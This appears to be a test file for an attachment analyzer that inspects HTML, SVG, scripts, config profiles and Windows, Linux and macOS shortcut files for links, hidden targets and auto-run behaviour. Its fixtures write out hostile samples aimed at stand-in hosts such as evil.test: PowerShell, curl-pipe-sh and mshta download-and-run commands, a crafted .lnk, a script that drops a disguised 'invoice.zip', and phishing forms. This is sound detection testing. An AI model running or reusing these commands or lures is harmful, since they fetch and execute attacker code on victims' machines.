import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { codes, openFile, targets } from '../../../testing/open-file.ts'
import { writeZip } from '../../../testing/zip-package-writer.ts'

describe('an HTML file', () => {
  it('tells links, base, visibility and place', async () => {
    const page =
      '<html><head><base href="https://site.test/d/"><title>Login page</title></head><body><p>Hello</p>' +
      '<a href="x?u=dana.okafor@union.example">https://bank.example</a><div style="display:none"><a href="https://hidden.test/">n</a></div></body></html>'
    const opened = await openFile('x.htm', page)
    const link = opened.links.find(({ origin }) => origin === 'html-anchor')
    assert.equal(link?.url, 'https://site.test/d/x?u=dana.okafor@union.example')
    assert.deepEqual(link?.traits, ['recipient-in-url', 'text-host-differs'])
    assert.equal(page.slice(link?.range.start, link?.range.end), 'x?u=dana.okafor@union.example')
    assert.equal(opened.links.find(({ href }) => href.includes('hidden'))?.visible, false)
    assert.equal(opened.text, 'Hello\n\nhttps://bank.example')
    assert.equal(opened.metadata.title, 'Login page')
    assert.deepEqual(opened.powers, [])
  })

  it('tells forms, what is loaded, and what goes on by itself', async () => {
    const opened = await openFile(
      'x.html',
      '<html><meta http-equiv="refresh" content="0;url=https://evil.test/r"><img src="https://pixel.test/p"><form action="https://collect.test/"><input type=password></form></html>',
    )
    assert.deepEqual(opened.powers, ['remote-content', 'form-submission', 'auto-open'])
    assert.deepEqual(targets(opened), [
      'https://evil.test/r',
      'https://pixel.test/p',
      'https://collect.test/',
    ])
  })

  it('opens a file that a script carries and saves', async () => {
    const zip = writeZip([
      { name: 'run.js', content: `fetch('https://evil.test/${'x'.repeat(300)}')`, method: 'stored' },
    ])
    const opened = await openFile(
      'x.html',
      `<html><script>var d = atob("${zip.toString('base64')}"); var b = new Blob([d]); a.href = URL.createObjectURL(b); a.download = "invoice.zip"; a.click()</script></html>`,
    )
    assert.deepEqual(opened.powers, ['script', 'embedded-program'])
    assert.deepEqual(
      opened.files.map(({ path, mediaType }) => [path, mediaType]),
      [
        ['script base64 1', 'application/zip'],
        ['script base64 1/run.js', 'text/plain'],
      ],
    )
    assert.equal(opened.links.find(({ href }) => href.startsWith('https://evil.test/'))?.visible, false)
  })

  it('finds addresses behind base64, escapes and event handlers', async () => {
    const coded = Buffer.from('https://coded.test/login?a=1').toString('base64')
    const escaped = [...'<a href="https://escaped.test/">y</a>']
      .map((c) => `%${c.charCodeAt(0).toString(16)}`)
      .join('')
    const opened = await openFile(
      'x.html',
      `<html><body onload="location.href='https://onload.test/'"><script>window.location = atob("${coded}")</script><script>document.write(unescape("${escaped}"))</script></body></html>`,
    )
    assert.deepEqual(opened.powers, ['script', 'auto-open'])
    assert.deepEqual([...targets(opened)].sort(), [
      'https://coded.test/login?a=1',
      'https://escaped.test/',
      'https://onload.test/',
    ])
  })

  it('opens data addresses but no pictures in them', async () => {
    const inner = Buffer.from('<html><a href="https://inner.test/">go</a></html>').toString('base64')
    const opened = await openFile(
      'x.html',
      `<html><img src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP"><iframe src="data:text/html;base64,${inner}"></iframe></html>`,
    )
    assert.deepEqual(
      opened.files.map(({ path }) => path),
      ['data 1'],
    )
    assert.ok(targets(opened).includes('https://inner.test/'))
  })

  it('reads the charset the page states', async () => {
    const opened = await openFile(
      'x.html',
      Buffer.from('<html><meta charset="windows-1251"><p>\u00cf\u00f0\u00e8</p>', 'latin1'),
    )
    assert.equal(opened.text, 'При')
  })
})

describe('a vector picture', () => {
  it('is a page: links and scripts', async () => {
    const opened = await openFile(
      'x.svg',
      `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="https://evil.test/svg"><text>Open</text></a><script><![CDATA[window.location.href = 'https://evil.test/js']]></script></svg>`,
    )
    assert.deepEqual([...new Set(targets(opened))], ['https://evil.test/svg', 'https://evil.test/js'])
    assert.deepEqual(opened.powers, ['script', 'auto-open'])
    assert.equal(opened.text, 'Open')
  })
})

describe('a script file', () => {
  it('tells what it starts and names, and takes no code for a bare domain', async () => {
    const opened = await openFile(
      'x.js',
      'var s = new ActiveXObject("WScript.Shell"); s.run("powershell -c iwr https://evil.test/p.ps1"); document.info.name = 1',
    )
    assert.deepEqual(opened.powers, ['script', 'launch'])
    assert.deepEqual(targets(opened), ['https://evil.test/p.ps1'])
  })
})

describe('a configuration profile', () => {
  it('tells the pages its icons open, signed or not', async () => {
    const list =
      '<?xml version="1.0"?><plist><dict><key>Label</key><string>Mail</string><key>URL</key><string>https://evil.test/clip</string></dict></plist>'
    const signed = Buffer.concat([
      Buffer.from('308207ef06092a864886f70d010702a0', 'hex'),
      Buffer.from(list),
      Buffer.alloc(40, 0x82),
    ])
    for (const content of [Buffer.from(list), signed]) {
      const opened = await openFile('x.mobileconfig', content)
      assert.deepEqual(targets(opened), ['https://evil.test/clip'])
      assert.deepEqual(opened.powers, ['launch'])
      assert.ok(opened.text.startsWith('Mail\n'))
    }
  })
})

describe('a shortcut', () => {
  it('of Windows tells the address, and an icon on a share', async () => {
    const opened = await openFile(
      'x.url',
      '[InternetShortcut]\r\nURL=https://evil.test/u\r\nIconFile=\\\\share.test\\i\\a.ico\r\nIconIndex=1\r\n',
    )
    assert.deepEqual(
      opened.links.map(({ origin, href, target }) => [origin, href, target?.host]),
      [
        ['shortcut', 'https://evil.test/u', 'evil.test'],
        ['shortcut', '\\\\share.test\\i\\a.ico', 'share.test'],
      ],
    )
    assert.deepEqual(opened.powers, ['remote-content', 'auto-open'])
    const file = await openFile('x.url', '[InternetShortcut]\r\nURL=file://share.test/run.exe')
    assert.deepEqual(file.powers, ['launch'])
  })

  it('of a Linux desktop, of macOS, of a search folder, of a remote desktop', async () => {
    const linux = await openFile(
      'x.desktop',
      '[Desktop Entry]\nType=Application\nName=Report\nExec=sh -c "curl https://evil.test/sh | sh"\n',
    )
    assert.deepEqual(linux.powers, ['launch'])
    assert.deepEqual(targets(linux), ['https://evil.test/sh'])
    const mac = await openFile(
      'x.webloc',
      '<?xml version="1.0"?><plist><dict><key>URL</key><string>https://evil.test/?a=1&amp;b=2</string></dict></plist>',
    )
    assert.deepEqual(targets(mac), ['https://evil.test/?a=1&b=2'])
    const folder = await openFile(
      'x.library-ms',
      '<?xml version="1.0"?><libraryDescription><simpleLocation><url>\\\\share.test\\DavWWWRoot</url></simpleLocation></libraryDescription>',
    )
    assert.deepEqual(targets(folder), ['\\\\share.test\\DavWWWRoot'])
    const desktop = await openFile(
      'x.rdp',
      Buffer.from('\ufefffull address:s:rdp.evil.test\r\nredirectdrives:i:1\r\n', 'utf16le'),
    )
    assert.deepEqual(
      desktop.links.map(({ target }) => target?.host),
      ['rdp.evil.test'],
    )
    assert.deepEqual(desktop.powers, ['launch', 'remote-content'])
  })

  it('file of Windows (.lnk) tells target, arguments, icon and machine', async () => {
    const header = Buffer.alloc(76)
    header.writeUInt32LE(76, 0)
    Buffer.from('0114020000000000c000000000000046', 'hex').copy(header, 4)
    header.writeUInt32LE(0x20 | 0x40 | 0x80 | 0x200, 20)
    const text = (value: string): Buffer => {
      const count = Buffer.alloc(2)
      count.writeUInt16LE(value.length)
      return Buffer.concat([count, Buffer.from(value, 'utf16le')])
    }
    const variables = Buffer.alloc(788)
    variables.writeUInt32LE(788, 0)
    variables.writeUInt32LE(0xa0000001, 4)
    variables.write('%windir%\\system32\\cmd.exe', 8 + 260, 'utf16le')
    const tracker = Buffer.alloc(96)
    tracker.writeUInt32LE(96, 0)
    tracker.writeUInt32LE(0xa0000003, 4)
    tracker.write('desk-fiction', 16, 'latin1')
    const opened = await openFile(
      'x.lnk',
      Buffer.concat([
        header,
        text('/c mshta https://evil.test/a.hta & start \\\\share.test@80\\x\\y.exe'),
        text('\\\\icons.test\\i.ico'),
        variables,
        tracker,
        Buffer.alloc(4),
      ]),
    )
    assert.equal(
      opened.text,
      '%windir%\\system32\\cmd.exe /c mshta https://evil.test/a.hta & start \\\\share.test@80\\x\\y.exe\nmade on desk-fiction',
    )
    assert.deepEqual(targets(opened, 'shortcut'), [
      '\\\\icons.test\\i.ico',
      'https://evil.test/a.hta',
      '\\\\share.test@80\\x\\y.exe',
    ])
    assert.deepEqual(opened.powers, ['launch', 'remote-content'])
    const cut = await openFile('x.lnk', header.subarray(0, 40))
    assert.deepEqual(codes(cut), ['attachment.damaged'])
  })
})
